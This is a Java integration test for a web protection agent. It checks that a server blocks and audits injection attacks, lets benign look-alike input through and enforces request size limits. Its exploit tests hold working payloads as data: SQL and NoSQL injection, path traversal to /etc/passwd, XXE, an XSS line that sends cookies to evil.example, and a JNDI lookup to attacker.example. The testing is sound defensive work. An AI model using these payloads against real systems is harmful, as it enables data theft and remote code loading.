package io.bulwark.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.bulwark.it.support.AuditFile;
import io.bulwark.it.support.RunningServer;
import io.bulwark.it.support.ServerKind;
import io.bulwark.it.support.TestPaths;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Injection protection and request limits on a real server with the built agent: real exploit
 * requests are refused with 403 and audited with where and what was found, benign look-alikes reach
 * the application, and the application reads exactly the body the client sent, however it reads it.
 * One server per kind (see the small subclasses), many requests.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class InjectionProtectionTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String POLICY = """
      version: 1
      rules:
        - name: mvc-echo            # decided at Spring MVC's routing: the body is read at the servlet entry
          match: { path: /mvc/**, route: [/mvc/echo, /mvc/form] }
          action: allow
        - name: cms-pages
          match: { path: /echo/cms/** }
          action: allow
      default: allow
      protect:
        sqlInjection: block
        xss: block
        pathTraversal: block
        jndi: block
        xxe: block
        nosqlInjection: block
        inputs: { headers: [user-agent, x-api-version], cookies: true, multipart: true }
        exclude:
          - { rules: [cms-pages], inputs: [form.html], categories: [xss] }
      limits: { maxBodySize: 64KB, maxJsonDepth: 16, maxJsonSize: 32KB, maxParameters: 50, maxHeaders: 40 }
      audit: { file: %s, events: [deny, monitor, error] }
      """;

  private final ServerKind kind;
  private final int jdk;
  private RunningServer server;
  private AuditFile audit;
  private final HttpClient client = HttpClient.newHttpClient();

  InjectionProtectionTest(ServerKind kind, int jdk) {
    this.kind = kind;
    this.jdk = jdk;
  }

  @BeforeAll
  void start() throws IOException {
    Path work = TestPaths.workDir("injection-" + kind.name().toLowerCase());
    Path auditFile = work.resolve("audit.jsonl");
    Files.deleteIfExists(auditFile);
    Path policy = Files.writeString(work.resolve("policy.yaml"), POLICY.formatted(auditFile));
    server = RunningServer.builder(kind, jdk).agentOptions("policy=" + policy).workDir(work).start();
    audit = new AuditFile(auditFile);
  }

  @AfterAll
  void stop() {
    if (server != null) {
      server.close();
    }
  }

  // ---- exploits -------------------------------------------------------------------------------

  @Test
  void sqlInjectionInAQueryParameterIsRefusedAndAudited() throws Exception {
    JsonNode event = refused(get("/echo/users?sort=name&q=" + encode("1' OR '1'='1' --")), "sqli");

    assertEquals("query.q", event.path("threat").path("location").asText());
    assertTrue(event.path("threat").path("evidence").asText().contains("OR"), event.toString());
    assertTrue(event.path("threat").path("reason").asText().startsWith("sqli."), event.toString());
    assertEquals("request", event.path("threat").path("layer").asText());
  }

  @Test
  void sqlInjectionInAJsonBodyIsRefusedAtItsLocation() throws Exception {
    JsonNode event = refused(post("/echo/stream", "application/json",
        "{\"user\":{\"name\":\"alice\",\"id\":\"1 UNION SELECT password FROM users --\"},\"page\":1}"), "sqli");

    assertEquals("json.$.user.id", event.path("threat").path("location").asText());
  }

  @Test
  void xssInAFormFieldIsRefusedExceptWhereThePolicyExcludesIt() throws Exception {
    String body =
        "title=News&html=" + encode("<script>document.location='//evil.example/?c='+document.cookie</script>");
    JsonNode event = refused(post("/echo/form", "application/x-www-form-urlencoded", body), "xss");

    assertEquals("form.html", event.path("threat").path("location").asText());
    assertEquals(200, post("/echo/cms/form", "application/x-www-form-urlencoded", body).statusCode(),
        "cms-pages may carry HTML in form.html");
  }

  @Test
  void pathTraversalInAParameterIsRefused() throws Exception {
    JsonNode event = refused(get("/echo/files?name=" + encode("../../../../etc/passwd")), "path-traversal");

    assertEquals("query.name", event.path("threat").path("location").asText());
  }

  @Test
  void aJndiLookupInAHeaderIsRefused() throws Exception {
    JsonNode event = refused(send(HttpRequest.newBuilder(uri("/echo/status"))
        .header("X-Api-Version", "${jndi:ldap://attacker.example:1389/a}").GET()), "jndi");

    assertEquals("header.x-api-version", event.path("threat").path("location").asText());
  }

  @Test
  void anXmlBodyWithAnExternalEntityIsRefused() throws Exception {
    JsonNode event = refused(post("/echo/stream", "application/xml", """
        <?xml version="1.0"?>
        <!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
        <order><note>&secret;</note></order>
        """), "xxe");

    assertEquals("body", event.path("threat").path("location").asText());
  }

  @Test
  void aNoSqlOperatorInAJsonBodyIsRefused() throws Exception {
    JsonNode event = refused(post("/echo/stream", "application/json",
        "{\"user\":\"admin\",\"password\":{\"$ne\":null}}"), "nosqli");

    assertTrue(event.path("threat").path("location").asText().startsWith("json.$.password"), event.toString());
  }

  @Test
  void aRequestDecidedAtTheFrameworksRoutingHasItsBodyInspectedAndReplayed() throws Exception {
    Assumptions.assumeTrue(kind == ServerKind.SPRING_BOOT, "only the Spring Boot app routes /mvc/*");
    JsonNode event = refused(post("/mvc/echo", "application/json",
        "{\"q\":\"x' UNION SELECT card_number FROM cards --\"}"), "sqli");
    assertEquals("mvc-echo", event.path("event").path("rule").asText());
    assertEquals("/mvc/echo", event.path("http").path("route").asText());
    String json = "{\"note\":\"select a union of the two, please\"}";
    assertEchoes(json.getBytes(StandardCharsets.UTF_8), post("/mvc/echo", "application/json", json));
  }

  // ---- benign look-alikes and the bytes the application reads ---------------------------------

  @Test
  void benignLookAlikesReachTheApplication() throws Exception {
    for (String query : new String[] {"name=" + encode("O'Brien"), "q=" + encode("select the best union of ideas"),
        "email=" + encode("ann.o'neil@example.com"), "next=" + encode("https://example.com/a?b=c&d=1"),
        "file=" + encode("report-2024.final.pdf")}) {
      HttpResponse<String> response = get("/echo/search?" + query);
      assertEquals(200, response.statusCode(), query + ": " + response.body());
      assertEquals("ok", response.body());
    }
  }

  @Test
  void theApplicationReadsExactlyTheJsonSent() throws Exception {
    String json = "{\"name\":\"O'Brien\",\"bio\":\"I select the union of two sets, and drop nothing.\","
        + "\"email\":\"ann@example.com\",\"site\":\"https://example.com/x?y=1\",\"tags\":[\"a\",\"b\"],\"n\":3.5}";
    byte[] bytes = json.getBytes(StandardCharsets.UTF_8);

    assertEchoes(bytes, post("/echo/stream", "application/json", json));
    assertEchoes(bytes, post("/echo/reader", "application/json; charset=UTF-8", json));
    if (kind == ServerKind.SPRING_BOOT) {
      assertEchoes(bytes, post("/mvc/echo", "application/json", json));
    }
  }

  @Test
  void theApplicationReadsAFormThroughGetParameterAsSent() throws Exception {
    String body = "name=" + encode("O'Brien") + "&comment=" + encode("I select the best, union-made") + "&tag=b1"
        + "&email=" + encode("ann@example.com") + "&tag=b2";
    HttpResponse<String> response = post("/echo/form?tag=q&page=2", "application/x-www-form-urlencoded", body);

    assertEquals(200, response.statusCode(), response.body());
    assertEquals("comment=I select the best, union-made\nemail=ann@example.com\nname=O'Brien\npage=2\ntag=q,b1,b2\n",
        response.body());
    if (kind == ServerKind.SPRING_BOOT) {
      HttpResponse<String> mvc = post("/mvc/form", "application/x-www-form-urlencoded", body);
      assertEquals("comment=I select the best, union-made\nemail=ann@example.com\nname=O'Brien\ntag=b1\n", mvc.body());
    }
  }

  @Test
  void theApplicationReadsABinaryAndAChunkedBodyByteForByte() throws Exception {
    byte[] binary = new byte[40_000];
    new Random(11).nextBytes(binary);
    assertEchoes(binary, send(HttpRequest.newBuilder(uri("/echo/stream")).header("Content-Type",
        "application/octet-stream").POST(HttpRequest.BodyPublishers.ofByteArray(binary))));

    byte[] json = ("{\"items\":[" + "\"item\",".repeat(2000) + "\"last\"]}").getBytes(StandardCharsets.UTF_8);
    assertEchoes(json, send(HttpRequest.newBuilder(uri("/echo/stream")).header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(json)))));
  }

  @Test
  void aMultipartBodyIsInspectedAndTheApplicationGetsTheSameParts() throws Exception {
    byte[] photo = new byte[5000];
    new Random(3).nextBytes(photo);
    byte[] body = multipart(photo, "Desk lamp, O'Brien's favourite");
    HttpResponse<String> response = send(HttpRequest.newBuilder(uri("/echo/parts"))
        .header("Content-Type", "multipart/form-data; boundary=BulwarkBoundary")
        .POST(HttpRequest.BodyPublishers.ofByteArray(body)));

    assertEquals(200, response.statusCode(), response.body());
    assertEquals("title null " + digest("Desk lamp, O'Brien's favourite".getBytes(StandardCharsets.UTF_8)) + "\n"
        + "photo lamp.bin " + digest(photo) + "\n", response.body());
    JsonNode event = refused(send(HttpRequest.newBuilder(uri("/echo/parts"))
        .header("Content-Type", "multipart/form-data; boundary=BulwarkBoundary")
        .POST(HttpRequest.BodyPublishers.ofByteArray(multipart(photo, "x' UNION SELECT password FROM users --")))),
        "sqli");
    assertEquals("form.title", event.path("threat").path("location").asText());
  }

  private static byte[] multipart(byte[] file, String title) throws IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    out.write(("--BulwarkBoundary\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n" + title
        + "\r\n--BulwarkBoundary\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"lamp.bin\"\r\n"
        + "Content-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
    out.write(file);
    out.write("\r\n--BulwarkBoundary--\r\n".getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  // ---- limits ---------------------------------------------------------------------------------

  @Test
  void aBodyOverTheLimitGets413BeforeTheApplicationReadsIt() throws Exception {
    byte[] big = new byte[100_000];
    assertLimit(send(HttpRequest.newBuilder(uri("/echo/stream")).header("Content-Type", "application/octet-stream")
        .POST(HttpRequest.BodyPublishers.ofByteArray(big))), 413, "body-too-large", "limit.body-size");
    assertLimit(send(HttpRequest.newBuilder(uri("/echo/stream")).header("Content-Type", "application/octet-stream")
        .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big)))), 413, "body-too-large",
        "limit.body-size");
    assertLimit(post("/echo/stream", "application/json", "{\"a\":\"" + "x".repeat(40_000) + "\"}"), 413,
        "body-too-large", "limit.json-size");
  }

  @Test
  void jsonTooDeepTooManyParametersAndTooManyHeadersAreRefused() throws Exception {
    assertLimit(post("/echo/stream", "application/json", "[".repeat(20) + "]".repeat(20)), 400, "json-too-deep",
        "limit.json-depth");
    StringBuilder query = new StringBuilder("p0=0");
    for (int i = 1; i <= 60; i++) {
      query.append("&p").append(i).append('=').append(i);
    }
    assertLimit(get("/echo/many?" + query), 400, "too-many-parameters", "limit.parameters");
    HttpRequest.Builder headers = HttpRequest.newBuilder(uri("/echo/headers"));
    for (int i = 0; i < 45; i++) {
      headers.header("X-Extra-" + i, "v");
    }
    assertLimit(send(headers.GET()), 431, "too-many-headers", "limit.headers");
  }

  // ---- helpers --------------------------------------------------------------------------------

  /** Asserts a 403 injection problem, that the app never ran, and returns the request's audit event. */
  private JsonNode refused(HttpResponse<String> response, String technique) throws IOException {
    assertEquals(403, response.statusCode(), response.body());
    assertEquals("application/problem+json", response.headers().firstValue("Content-Type").orElse(null));
    JsonNode problem = JSON.readTree(response.body());
    assertEquals("urn:bulwark:problem:injection", problem.path("type").asText());
    String requestId = problem.path("requestId").asText();
    JsonNode event = audit.await(AuditFile.requestId(requestId));
    assertEquals("deny", event.path("event").path("action").asText());
    assertEquals("injection." + technique, event.path("event").path("reason").asText());
    assertEquals(technique, event.path("threat").path("technique").asText());
    assertFalse(event.path("threat").path("evidence").asText().isEmpty(), event.toString());
    assertTrue(event.path("threat").path("evidence").asText().length() <= 120, event.toString());
    System.out.println(kind + " refused: " + event.path("threat"));
    return event;
  }

  private void assertLimit(HttpResponse<String> response, int status, String problemType, String reason)
      throws IOException {
    assertEquals(status, response.statusCode(), response.body());
    JsonNode problem = JSON.readTree(response.body());
    assertEquals("urn:bulwark:problem:" + problemType, problem.path("type").asText());
    JsonNode event = audit.await(AuditFile.requestId(problem.path("requestId").asText()));
    assertEquals(reason, event.path("event").path("reason").asText());
    assertEquals(status, event.path("http").path("response").path("status_code").asInt());
  }

  private static void assertEchoes(byte[] sent, HttpResponse<String> response) throws Exception {
    assertEquals(200, response.statusCode(), response.body());
    assertEquals(digest(sent), response.body());
  }

  /** As the echo endpoint writes it: {@code sha256=<hex> length=<bytes>}. */
  private static String digest(byte[] bytes) {
    try {
      StringBuilder hex = new StringBuilder("sha256=");
      for (byte b : MessageDigest.getInstance("SHA-256").digest(bytes)) {
        hex.append(Character.forDigit((b >> 4) & 0xf, 16)).append(Character.forDigit(b & 0xf, 16));
      }
      return hex + " length=" + bytes.length;
    } catch (java.security.NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  private URI uri(String target) {
    return URI.create("http://127.0.0.1:" + server.port() + target);
  }

  private HttpResponse<String> get(String target) throws Exception {
    return send(HttpRequest.newBuilder(uri(target)).GET());
  }

  private HttpResponse<String> post(String target, String contentType, String body) throws Exception {
    return send(HttpRequest.newBuilder(uri(target)).header("Content-Type", contentType)
        .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8)));
  }

  private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
    return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }
}
